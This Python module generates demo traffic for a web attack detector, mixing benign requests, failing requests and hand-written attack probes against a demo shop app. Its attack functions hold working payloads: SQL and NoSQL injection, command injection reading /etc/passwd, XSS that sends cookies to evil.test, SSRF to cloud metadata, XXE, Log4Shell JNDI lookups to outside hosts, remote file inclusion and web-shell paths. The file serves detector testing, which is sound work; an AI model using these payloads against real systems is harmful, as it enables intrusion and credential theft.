"""The demo's traffic: benign browsing, attacks of every category, and requests that fail.

Payloads are written by hand, one or more per attack technique, the way a
scanner or a person at a keyboard would send them; none is taken from a
corpus. Every request carries a W3C ``traceparent`` whose trace id the plan
chose, so the summary can tell what was sent from what devsecmw saw without
adding anything to the requests that the app or the detector could notice.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

from ..signals import ATTACK_TYPES

if TYPE_CHECKING:  # the demo extra provides httpx; importing it here only for typing
    import httpx

#: ``kind`` of a probe: what the traffic generator meant to send.
BENIGN = "benign"
ATTACK = "attack"
FAILURE = "failure"  # benign input the app handles badly: 4xx/5xx without an attack

BROWSER_UA = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
)
MAX_REQUESTS = 1000


@dataclass(frozen=True, slots=True)
class Probe:
    """One request the demo sends."""

    kind: str
    #: The attack category (a signal type of SPEC.md) for attacks; a short label otherwise.
    label: str
    method: str
    #: Path plus an already percent-encoded query (what goes on the wire).
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    #: Set by :func:`plan`: the trace id (32 hex digits) the request's ``traceparent`` carries.
    trace_id: str = ""
    span_id: str = ""
    #: Set by :func:`plan`: the visitor's address, sent as ``X-Forwarded-For`` (the demo plays a
    #: reverse proxy on 127.0.0.1, so per-client signals see many clients, not one).
    client: str = ""

    def traceparent(self) -> str:
        return f"00-{self.trace_id}-{self.span_id}-01"


@dataclass(slots=True)
class Sent:
    """A probe and what became of it."""

    probe: Probe
    status: int | None = None
    error: str | None = None


def _target(path: str, params: Sequence[tuple[str, str]] = ()) -> str:
    if not params:
        return path
    # quote (not quote_plus) keeps spaces as %20, as browsers do in most places.
    return f"{path}?{urlencode(params, quote_via=quote, safe='')}"


def get(kind: str, label: str, path: str, params: Sequence[tuple[str, str]] = (), **headers: str) -> Probe:
    hdrs = tuple((k.replace("_", "-"), v) for k, v in headers.items())
    return Probe(kind, label, "GET", _target(path, params), hdrs)


def raw_get(kind: str, label: str, target: str, **headers: str) -> Probe:
    """A GET whose target is sent as written (hand-made percent-encoding kept)."""
    hdrs = tuple((k.replace("_", "-"), v) for k, v in headers.items())
    return Probe(kind, label, "GET", target, hdrs)


def post_json(kind: str, label: str, path: str, doc: object, **headers: str) -> Probe:
    hdrs = (("content-type", "application/json"), *((k.replace("_", "-"), v) for k, v in headers.items()))
    return Probe(kind, label, "POST", path, tuple(hdrs), json.dumps(doc).encode())


def post_form(kind: str, label: str, path: str, fields: Sequence[tuple[str, str]]) -> Probe:
    body = urlencode(fields, quote_via=quote).encode()
    return Probe(kind, label, "POST", path, (("content-type", "application/x-www-form-urlencoded"),), body)


def post_raw(kind: str, label: str, path: str, content_type: str, body: str) -> Probe:
    return Probe(kind, label, "POST", path, (("content-type", content_type),), body.encode())


# --------------------------------------------------------------------------- benign
def _benign() -> list[Probe]:
    b = BENIGN
    return [
        get(b, "home", "/"),
        get(b, "search", "/search", [("q", "blue cotton shirt")]),
        get(b, "search", "/search", [("q", "select specialty hospital"), ("page", "2")]),
        get(b, "search", "/search", [("q", "rock & roll t-shirt"), ("utm_source", "newsletter")]),
        get(b, "search", "/search", [("q", "50% off sale"), ("sort", "price")]),
        get(b, "user", "/api/users/1"),
        get(b, "user", "/api/users/2", accept="application/json"),
        get(b, "users", "/api/users", [("role", "admin")]),
        get(b, "product", "/api/products/blue-shirt"),
        get(b, "product", "/api/products/red-scarf", [("currency", "EUR")]),
        post_json(b, "order", "/api/orders", {"sku": "blue-shirt", "qty": 2, "note": "Ring twice, please."}),
        post_json(b, "comment", "/api/comments", {"text": "Great fit; I'd buy it again. <3", "rating": 5}),
        post_form(b, "login", "/login", [("username", "alice"), ("password", "wonderland")]),
        get(b, "files", "/files", [("name", "terms.txt")]),
        get(b, "page", "/page", [("name", "about")]),
        get(b, "preview", "/api/preview", [("url", "https://example.com/blog/new-collection")]),
        get(b, "greeting", "/greeting", [("name", "Zoë")]),
        get(b, "ping", "/tools/ping", [("host", "192.0.2.10")]),
        get(b, "calc", "/api/calc", [("expr", "(19.99 * 3) - 5")]),
        get(b, "export", "/export.csv"),
        get(b, "report", "/api/reports/2024", [("format", "json")]),
        post_raw(
            b,
            "import",
            "/api/import",
            "application/xml",
            '<?xml version="1.0"?><products><product sku="green-hat" qty="3"/></products>',
        ),
    ]


# --------------------------------------------------------------------------- failures
def _failures() -> list[Probe]:
    f = FAILURE
    return [
        post_form(f, "bad login", "/login", [("username", "alice"), ("password", "alice123")]),
        post_json(f, "bad login", "/login", {"username": "bob", "password": "hunter2"}),
        get(f, "unknown user", "/api/users/999"),
        get(f, "missing page", "/blog/2019/summer-sale"),
        get(f, "missing product", "/api/products/purple-socks"),
        # A customer named O'Reilly breaks the search's hand-built SQL: a 5xx with no attack.
        get(f, "apostrophe", "/search", [("q", "o'reilly books")]),
        get(f, "unsupported format", "/api/reports/2024", [("format", "pdf")]),
        post_raw(f, "bad json", "/api/orders", "application/json", '{"sku": "blue-shirt", "qty": '),
    ]


# --------------------------------------------------------------------------- attacks
def _injection_attacks() -> dict[str, list[Probe]]:
    """Injections into parameters: SQL, XSS, commands, paths, remote files, SSRF."""
    a = ATTACK
    return {
        "sqli": [
            get(a, "sqli", "/search", [("q", "' UNION SELECT username, password FROM users--")]),
            get(a, "sqli", "/search", [("q", "shirt' OR '1'='1")]),
            get(a, "sqli", "/api/users", [("role", "admin'; DROP TABLE users;--")]),
            get(a, "sqli", "/api/products/blue-shirt", [("currency", "1 UNION ALL SELECT NULL,version()")]),
        ],
        "xss": [
            get(a, "xss", "/search", [("q", "<script>alert(document.domain)</script>")]),
            get(a, "xss", "/greeting", [("name", "<img src=x onerror=alert(1)>")]),
            post_json(
                a, "xss", "/api/comments", {"text": "<svg/onload=fetch('//evil.test/'+document.cookie)>"}
            ),
        ],
        "cmdi": [
            get(a, "cmdi", "/tools/ping", [("host", "127.0.0.1; cat /etc/passwd")]),
            get(a, "cmdi", "/tools/ping", [("host", "8.8.8.8 | id")]),
            get(a, "cmdi", "/tools/ping", [("host", "$(whoami)")]),
        ],
        "traversal": [
            get(a, "traversal", "/files", [("name", "../../../../etc/passwd")]),
            get(a, "traversal", "/files", [("name", "../../app/config/settings.py")]),
            raw_get(a, "traversal", "/files?name=..%2F..%2F..%2Fetc%2Fshadow"),
        ],
        "rfi": [
            get(a, "rfi", "/page", [("name", "http://203.0.113.66/shell.txt?")]),
            get(a, "rfi", "/page", [("name", "ftp://198.51.100.23/inc/r57.txt?")]),
        ],
        "ssrf": [
            get(a, "ssrf", "/api/preview", [("url", "http://169.254.169.254/latest/meta-data/iam/")]),
            get(a, "ssrf", "/api/preview", [("url", "gopher://127.0.0.1:6379/_FLUSHALL")]),
            get(a, "ssrf", "/api/preview", [("url", "file:///etc/hosts")]),
        ],
    }


def _payload_attacks() -> dict[str, list[Probe]]:
    """Payloads for a parser or an interpreter: XML entities, templates, NoSQL, JNDI, PHP, Java."""
    a = ATTACK
    return {
        "xxe": [
            post_raw(
                a,
                "xxe",
                "/api/import",
                "application/xml",
                '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                '<products><product sku="&x;"/></products>',
            ),
            post_raw(
                a,
                "xxe",
                "/api/import",
                "text/xml",
                '<!DOCTYPE d [<!ENTITY % r SYSTEM "http://203.0.113.9/evil.dtd"> %r;]><products/>',
            ),
        ],
        "ssti": [
            get(a, "ssti", "/greeting", [("name", "{{config.items()}}")]),
            get(a, "ssti", "/greeting", [("name", "{{''.__class__.__mro__[1].__subclasses__()}}")]),
        ],
        "nosqli": [
            post_json(a, "nosqli", "/login", {"username": "admin", "password": {"$ne": None}}),
            raw_get(a, "nosqli", "/api/users?role[$ne]=customer"),
            post_json(a, "nosqli", "/login", {"username": {"$regex": "^adm"}, "password": {"$gt": ""}}),
        ],
        "log4shell": [
            get(a, "log4shell", "/", user_agent="${jndi:ldap://203.0.113.5:1389/Exploit}"),
            get(
                a,
                "log4shell",
                "/search",
                [("q", "shirt")],
                x_api_version="${${lower:j}ndi:dns://evil.test/a}",
            ),
        ],
        "php": [
            get(a, "php", "/page", [("name", "php://filter/convert.base64-encode/resource=index.php")]),
            get(a, "php", "/search", [("q", "<?php system($_GET['c']); ?>")]),
        ],
        "java": [
            get(
                a,
                "java",
                "/",
                content_type="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"
                ".(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
            ),
            post_form(
                a,
                "java",
                "/api/orders",
                [("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c}i")],
            ),
        ],
    }


def _probe_attacks() -> dict[str, list[Probe]]:
    """Server-side code, scanners, protocol abuse, session fixation and backdoors."""
    a = ATTACK
    return {
        "nodejs": [
            get(a, "nodejs", "/api/calc", [("expr", "require('child_process').execSync('id')")]),
            post_json(a, "nodejs", "/api/comments", {"text": "hi", "x": "process.mainModule.require('fs')"}),
        ],
        "code_injection": [
            get(a, "code_injection", "/api/calc", [("expr", "__import__('os').system('id')")]),
            get(a, "code_injection", "/api/calc", [("expr", '__import__("subprocess").check_output("ls")')]),
        ],
        "scanner": [
            get(a, "scanner", "/", user_agent="sqlmap/1.8.2#stable (https://sqlmap.org)"),
            get(a, "scanner", "/.env", user_agent="Mozilla/5.0 (compatible; Nuclei)"),
            get(a, "scanner", "/wp-login.php", user_agent="Nikto/2.5.0"),
        ],
        "protocol": [
            # Response splitting: a CR LF and a header smuggled into a parameter.
            get(a, "protocol", "/page", [("name", "about\r\nSet-Cookie: session=attacker")]),
            get(a, "protocol", "/search", [("q", "shirt\r\nLocation: https://evil.test/")]),
        ],
        "session_fixation": [
            get(a, "session_fixation", "/login", [("PHPSESSID", "attacker-chosen-1234")]),
            get(
                a,
                "session_fixation",
                "/greeting",
                [("name", '<script>document.cookie="sid=fixed; domain=.shop.test"</script>')],
            ),
        ],
        "backdoor": [
            get(a, "backdoor", "/uploads/c99.php", [("act", "ls")]),
            get(a, "backdoor", "/wso.php"),
        ],
    }


def _attacks() -> dict[str, list[Probe]]:
    # The categories in the order the plan and the summary list them.
    return {**_injection_attacks(), **_payload_attacks(), **_probe_attacks()}


def catalogue() -> tuple[list[Probe], list[Probe], dict[str, list[Probe]]]:
    """Every hand-written probe: ``(benign, failures, attacks by category)``."""
    attacks = _attacks()
    missing = ATTACK_TYPES - set(attacks)
    if missing:  # pragma: no cover - guarded by a test; the demo must show every category
        raise AssertionError(f"demo traffic lacks attack categories: {sorted(missing)}")
    return _benign(), _failures(), attacks


def plan(n: int, seed: int = 1) -> list[Probe]:
    """``n`` probes in a shuffled, reproducible order.

    At least one probe of every attack category and of every failure whenever
    ``n`` leaves room for them; the rest is about half benign, a third attacks
    and the remainder failures, like a busy public endpoint on a bad day.
    """
    if n < 0 or n > MAX_REQUESTS:
        raise ValueError(f"number of requests must be between 0 and {MAX_REQUESTS}, got {n}")
    rng = random.Random(seed)
    benign, failures, attacks = catalogue()
    must: list[Probe] = [rng.choice(ps) for _, ps in sorted(attacks.items())]
    must += [*failures, benign[0]]
    all_attacks = [p for ps in attacks.values() for p in ps]
    if n <= len(must):
        chosen = rng.sample(must, n)
    else:
        chosen = list(must)
        pools: list[tuple[float, list[Probe]]] = [(0.5, benign), (0.35, all_attacks), (0.15, failures)]
        weights = [w for w, _ in pools]
        for _ in range(n - len(must)):
            pool = rng.choices(pools, weights)[0][1]
            chosen.append(rng.choice(pool))
        rng.shuffle(chosen)
    # Documentation address ranges (RFC 5737): a crowd of visitors, and a few attackers
    # who send all the attacks, so some cross devsecmw's per-client thresholds.
    visitors = [f"198.51.100.{i}" for i in rng.sample(range(2, 250), 30)]
    attackers = [f"203.0.113.{i}" for i in rng.sample(range(2, 250), 4)]
    return [
        replace(
            p,
            trace_id=f"{rng.getrandbits(128) | 1:032x}",
            span_id=f"{rng.getrandbits(64) | 1:016x}",
            client=rng.choice(attackers if p.kind == ATTACK else visitors),
        )
        for p in chosen
    ]


def send_all(
    client: httpx.Client, probes: Iterable[Probe], on_sent: Callable[[Sent], None] | None = None
) -> list[Sent]:
    """Send the probes one after the other; a transport error is recorded, never raised."""
    import httpx

    out: list[Sent] = []
    for p in probes:
        headers = [("user-agent", BROWSER_UA), ("accept", "*/*")]
        names = {k.lower() for k, _ in p.headers}
        headers = [(k, v) for k, v in headers if k not in names]
        headers += [*p.headers, ("traceparent", p.traceparent())]
        if p.client:
            headers.append(("x-forwarded-for", p.client))
        sent = Sent(p)
        for attempt in (1, 2):
            try:
                resp = client.request(p.method, p.target, headers=headers, content=p.body or None)
                sent.status, sent.error = resp.status_code, None
                break
            except httpx.TransportError as exc:
                # uvicorn closes a keep-alive connection after an app exception; a request
                # already on its way there is reset unread, so sending it again is safe.
                sent.error = f"{type(exc).__name__}: {exc}"
                if attempt == 2:
                    break
        out.append(sent)
        if on_sent is not None:
            on_sent(sent)
    return out


__all__ = [
    "ATTACK",
    "BENIGN",
    "FAILURE",
    "MAX_REQUESTS",
    "Probe",
    "Sent",
    "catalogue",
    "plan",
    "send_all",
]
